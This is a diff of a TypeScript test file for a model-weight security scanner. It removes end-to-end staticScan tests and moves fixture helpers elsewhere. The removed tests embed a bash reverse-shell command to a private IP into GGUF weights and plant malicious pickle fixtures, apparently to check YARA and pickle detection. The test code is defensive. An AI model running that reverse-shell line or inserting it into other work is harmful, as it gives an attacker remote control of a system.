@@ -18,25 +18,22 @@ import {
   safetensorsWeightReport,
   scanFileForPickles,
   scoreGuardFindings,
-  staticScan,
   tensorFindings,
   weightStatistics,
   type QuantBlockStats,
-  type StaticScanThresholds,
   type WeightFinding,
   type WeightStats,
 } from '../src/scan/index.js';
 import { inspectSafetensors } from '../src/formats/safetensors.js';
+import { gaussian, saneSafetensors } from './weightFixtures.js';
 import {
   PICKLES,
   buildSafetensors,
   concatBytes,
   safetensorsZipPolyglot,
   seededBytes,
-  seededRandom,
   writeDiffusersDir,
   type DiffusersVariant,
-  type FixtureTensor,
 } from '../src/testing/fixtures.js';
 import {
   GGUF_WEIGHT_ATTACKS,
@@ -57,8 +54,6 @@ afterAll(async () => {
   await rm(dir, { recursive: true, force: true });
 });
 
-const T = (): StaticScanThresholds => ({ ...DEFAULT_STATIC_SCAN_THRESHOLDS });
-
 async function put(name: string, bytes: Uint8Array): Promise<string> {
   const p = join(dir, name);
   await writeFile(p, bytes);
@@ -74,66 +69,6 @@ async function tiny(
   const report = await inspectGguf(path);
   if (!report.ok) throw new Error(`${report.reason}: ${report.detail}`);
   return { path, report };
-}
-
-/** A tiny GGUF with `payload` written into token_embd's data at byte `at`. */
-async function ggufWith(name: string, payload: Uint8Array, at = 1000): Promise<string> {
-  const g = buildTinyLlamaGguf({ seed: 3 });
-  const embd = g.tensors[0];
-  if (embd === undefined) throw new Error('no tensors');
-  Buffer.from(payload).copy(g.buffer, g.dataOffset + embd.offset + at);
-  return put(name, g.buffer);
-}
-
-/** Rules that never match: isolates the other sub-scans from YARA. */
-async function quietRules(): Promise<string> {
-  return put('quiet.yar', new TextEncoder().encode('rule never_matches { condition: false }\n'));
-}
-
-function gaussian(n: number, std: number, seed: number): Float64Array {
-  const r = seededRandom(seed);
-  const out = new Float64Array(n);
-  for (let i = 0; i < n; i++) {
-    const u = r() || 1e-12;
-    out[i] = Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * r()) * std;
-  }
-  return out;
-}
-
-/** A safetensors file of sane float weights (N(0, 0.02²)), plus an int64 tensor. */
-function saneSafetensors(mutate?: (data: Buffer, layout: Map<string, number>) => void): Uint8Array {
-  const tensors: FixtureTensor[] = [
-    { name: 'model.layers.0.w', dtype: 'F32', shape: [32, 64] },
-    { name: 'model.layers.0.b', dtype: 'F16', shape: [64] },
-    { name: 'model.embed', dtype: 'BF16', shape: [16, 32] },
-    { name: 'position_ids', dtype: 'I64', shape: [8] },
-  ];
-  const parts: Buffer[] = [];
-  const layout = new Map<string, number>();
-  let at = 0;
-  let seed = 11;
-  for (const t of tensors) {
-    const n = t.shape.reduce((a, b) => a * b, 1);
-    const v = gaussian(n, 0.02, seed++);
-    const width = t.dtype === 'F32' ? 4 : t.dtype === 'I64' ? 8 : 2;
-    const b = Buffer.alloc(n * width);
-    for (let i = 0; i < n; i++) {
-      const x = v[i] ?? 0;
-      if (t.dtype === 'F32') b.writeFloatLE(x, i * 4);
-      else if (t.dtype === 'F16') b.writeUInt16LE(toHalf(x), i * 2);
-      else if (t.dtype === 'BF16') {
-        const f = Buffer.alloc(4);
-        f.writeFloatLE(x);
-        b.writeUInt16LE(f.readUInt16LE(2), i * 2);
-      } else b.writeBigInt64LE(BigInt(i), i * 8);
-    }
-    layout.set(t.name, at);
-    at += b.length;
-    parts.push(b);
-  }
-  const data = Buffer.concat(parts);
-  mutate?.(data, layout);
-  return buildSafetensors(tensors, { format: 'pt' }, data);
 }
 
 // --- quantised blocks ---------------------------------------------------------------------------
@@ -445,7 +380,7 @@ const ATTACK_FINDINGS: Record<GgufWeightAttack, string[]> = {
 
 describe('weight reports of tiny models', () => {
   for (const weightType of ['f32', 'f16', ...QUANT_TYPES] as const) {
-    it(`a clean ${weightType} model has no findings and passes the static scan`, async () => {
+    it(`a clean ${weightType} model has no findings`, async () => {
       const { path, report } = await tiny(`clean-${weightType}.gguf`, { weightType });
       const r = await ggufWeightReport(path, report);
       expect(r.findings).toEqual([]);
@@ -453,20 +388,6 @@ describe('weight reports of tiny models', () => {
       expect(r.tensorsAnalyzed).toBe(report.tensors.length);
       const quantised = r.tensors.filter((t) => t.blocks !== undefined);
       expect(quantised.length).toBe(weightType.startsWith('q') ? report.tensors.length - 5 : 0);
-      const v = await staticScan({ path, kind: 'file' }, T());
-      expect(v).toMatchObject({
-        passed: true,
-        reasonCode: 'static_scan_ok',
-        facts: {
-          format: 'gguf',
-          yara_matches: 0,
-          pickle_verdict: 'none',
-          guard_verdict: 'PASS',
-          guard_score: 0,
-          findings: 0,
-          weights_checked: report.tensors.length,
-        },
-      });
     });
   }
 
@@ -482,11 +403,6 @@ describe('weight reports of tiny models', () => {
         expect(hit).toEqual(expect.arrayContaining(ATTACK_FINDINGS[attack]));
         expect(r.findings.every((f) => f.tensor === 'blk.0.attn_q.weight')).toBe(true);
         expect(r.verdict).toBe('FAIL');
-        const v = await staticScan({ path, kind: 'file' }, T());
-        expect(v.passed).toBe(false);
-        expect(['weight_anomaly', 'guard_fail']).toContain(v.reasonCode);
-        expect(v.facts.guard_verdict).toBe('FAIL');
-        expect(String(v.facts.top_finding)).toMatch(/^blk\.0\.attn_q\.weight:/);
       });
     }
   }
@@ -504,136 +420,19 @@ describe('weight reports of tiny models', () => {
     expect(r.findings).toEqual([]);
     expect(r.tensorsAnalyzed).toBe(3);
     expect(r.tensorsSkipped).toBe(1);
-    const v = await staticScan({ path: p, kind: 'file' }, T());
-    expect(v).toMatchObject({ passed: true, facts: { format: 'safetensors', weights_checked: 3 } });
     const nan = await put(
       'nan.safetensors',
       saneSafetensors((data, at) =>
         data.writeFloatLE(Number.NaN, (at.get('model.layers.0.w') ?? 0) + 8),
       ),
     );
-    const bad = await staticScan({ path: nan, kind: 'file' }, T());
-    expect(bad).toMatchObject({
-      passed: false,
-      reasonCode: 'guard_fail',
-      facts: { top_finding: 'model.layers.0.w:nan_values' },
-    });
-  });
-});
-
-// --- the static scan end to end (logic, no sandbox) ---------------------------------------------
-
-describe('staticScan', () => {
-  it('fails closed without yara', async () => {
-    const { path } = await tiny('noyara.gguf');
-    const v = await staticScan({ path, kind: 'file' }, T(), {
-      yaraBinary: join(dir, 'no-such-yara'),
-    });
-    expect(v).toMatchObject({ passed: false, reasonCode: 'yara_missing' });
-  });
-
-  it('fails on a yara match first (reverse shell text in the weights)', async () => {
-    const p = await ggufWith('shell.gguf', Buffer.from('bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'));
-    const v = await staticScan({ path: p, kind: 'file' }, T());
-    expect(v).toMatchObject({
-      passed: false,
-      reasonCode: 'yara_match',
-      facts: { yara_rules: 'SecAI_Reverse_Shell', yara_matches: 1 },
-    });
-  });
-
-  it('finds pickle streams in the weights with its own scanner (yara silenced)', async () => {
-    const rulesPath = await quietRules();
-    const mal = await ggufWith('pickle-mal.gguf', PICKLES.osSystemStackGlobal);
-    expect(await staticScan({ path: mal, kind: 'file' }, T(), { rulesPath })).toMatchObject({
-      passed: false,
-      reasonCode: 'pickle_malicious',
-      facts: { pickle_verdict: 'malicious', pickle_streams: 1, top_finding: 'pickle:malicious' },
-    });
-    const torch = await ggufWith('pickle-torch.gguf', PICKLES.torchRebuildTensor);
-    expect(await staticScan({ path: torch, kind: 'file' }, T(), { rulesPath })).toMatchObject({
-      passed: false,
-      reasonCode: 'pickle_embedded',
-    });
-  });
-
-  it('fails on near-random bytes inside the weights', async () => {
-    const g = buildTinyLlamaGguf({ seed: 3, nEmbd: 128 });
-    const embd = g.tensors[0];
-    if (embd === undefined) throw new Error('no tensors');
-    Buffer.from(seededBytes(embd.sizeBytes, 4)).copy(g.buffer, g.dataOffset + embd.offset);
-    const p = await put('random.gguf', g.buffer);
-    const v = await staticScan(
-      { path: p, kind: 'file' },
-      {
-        ...T(),
-        entropySampleBytes: 65_536,
-      },
+    const nanInspection = await inspectSafetensors(nan);
+    if (!nanInspection.ok) throw new Error(nanInspection.detail);
+    const bad = await safetensorsWeightReport(nan, nanInspection);
+    expect(bad.verdict).toBe('FAIL');
+    expect(bad.findings).toContainEqual(
+      expect.objectContaining({ tensor: 'model.layers.0.w', code: 'nan_values' }),
     );
-    expect(v).toMatchObject({ passed: false, reasonCode: 'entropy_near_random' });
-    expect(v.facts.entropy_max).toBeGreaterThan(7.99);
-  });
-
-  it('fails a file that is no model format', async () => {
-    const p = await put('notes.txt', new TextEncoder().encode('just some text\n'));
-    expect(await staticScan({ path: p, kind: 'file' }, T())).toMatchObject({
-      passed: false,
-      reasonCode: 'unsupported_format',
-    });
-  });
-
-  it('takes every threshold from params: weightAnomalyFails 0 leaves a lone warning to gguf-guard', async () => {
-    const g = buildTinyLlamaGguf({ seed: 3 });
-    const t = g.tensors.find((x) => x.name === 'blk.1.ffn_up.weight');
-    if (t === undefined) throw new Error('missing');
-    for (let i = 0; i < t.sizeBytes; i += 4)
-      g.buffer.writeFloatLE(0.5, g.dataOffset + t.offset + i);
-    const p = await put('constant.gguf', g.buffer);
-    const strict = await staticScan({ path: p, kind: 'file' }, T());
-    expect(strict).toMatchObject({
-      passed: false,
-      reasonCode: 'weight_anomaly',
-      facts: { top_finding: 'blk.1.ffn_up.weight:constant_tensor', guard_verdict: 'PASS' },
-    });
-    const lenient = await staticScan({ path: p, kind: 'file' }, { ...T(), weightAnomalyFails: 0 });
-    expect(lenient).toMatchObject({ passed: true, facts: { guard_score: 0.1, findings: 1 } });
-    const stricter = await staticScan(
-      { path: p, kind: 'file' },
-      { ...T(), weightAnomalyFails: 0, guardWarningWeight: 0.6 },
-    );
-    expect(stricter).toMatchObject({ passed: false, reasonCode: 'guard_fail' });
-  });
-
-  it('scans a diffusers directory: every file for pickles, safetensors for entropy and weights', async () => {
-    const root = join(dir, 'diffusers-sane');
-    await writeDiffusersDir(root);
-    // The fixture's tensors hold random bytes (NaN/Inf as floats): give them sane weights.
-    const sane = saneSafetensors();
-    for (const f of [
-      'unet/diffusion_pytorch_model.safetensors',
-      'vae/diffusion_pytorch_model.safetensors',
-      'text_encoder/model.safetensors',
-    ])
-      await writeFile(join(root, f), sane);
-    const v = await staticScan({ path: root, kind: 'directory' }, T());
-    expect(v).toMatchObject({
-      passed: true,
-      reasonCode: 'static_scan_ok',
-      facts: { format: 'directory', files_scanned: 11, weights_checked: 9 },
-    });
-    await writeFile(
-      join(root, 'vae/diffusion_pytorch_model.safetensors'),
-      safetensorsZipPolyglot(),
-    );
-    const bad = await staticScan({ path: root, kind: 'directory' }, T());
-    expect(bad.passed).toBe(false);
-    expect(bad.reasonCode).toBe('yara_match');
-    const refused = join(dir, 'diffusers-bin');
-    await writeDiffusersDir(refused, 'pickleBin');
-    expect(await staticScan({ path: refused, kind: 'directory' }, T())).toMatchObject({
-      passed: false,
-      reasonCode: 'directory_invalid',
-    });
   });
 });
 
